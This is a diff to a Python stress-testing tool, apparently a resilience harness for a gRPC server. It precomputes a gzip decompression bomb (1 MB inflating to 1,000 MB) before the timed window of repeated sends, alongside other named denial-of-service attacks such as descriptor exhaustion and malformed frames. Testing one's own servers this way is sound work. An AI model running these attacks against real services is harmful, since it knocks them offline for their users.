@@ -172,12 +172,16 @@ def gzip_of_zeros(megabytes):
             struct.pack("<II", checksum, megabytes * 1_000_000))
 
 
+@functools.cache
+def bomb():
+    return h2.grpc_message(gzip_of_zeros(1000), compressed=True)
+
+
 def gzip_bomb(address, pace):
     """Messages of 1 MB that inflate to 1,000 MB."""
-    bomb = h2.grpc_message(gzip_of_zeros(1000), compressed=True)
     with h2.Connection(address) as connection:
         while pace.turn():
-            connection.send_data(connection.begin_call(INFER_GZIP), bomb, pace.running)
+            connection.send_data(connection.begin_call(INFER_GZIP), bomb(), pace.running)
 
 
 def long_strings(address, pace):
@@ -296,6 +300,8 @@ ATTACKS = {connection_churn: 2000, silent_connections: 1000, descriptor_exhausti
            malformed_frames: 1000}
 BY_NAME = {attack.__name__: attack for attack in ATTACKS}
 ON_METRICS = {"scrapes", "silent_scrapes"}
+# What takes a second to make, and is made before an attack's time begins.
+PREPARATIONS = {"gzip_bomb": bomb}
 
 
 def run(name, address, pace):
@@ -328,6 +334,8 @@ def main():
     _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
     host, _, port = arguments.address.rpartition(":")
+    if arguments.name in PREPARATIONS:
+        PREPARATIONS[arguments.name]()
     pace = Pace(time.monotonic() + arguments.seconds, arguments.rate or ATTACKS[BY_NAME[arguments.name]])
     run(arguments.name, (host.strip("[]"), int(port)), pace)
     print(json.dumps({"attack": arguments.name, "actions": pace.actions, "broken_connections": pace.broken}),
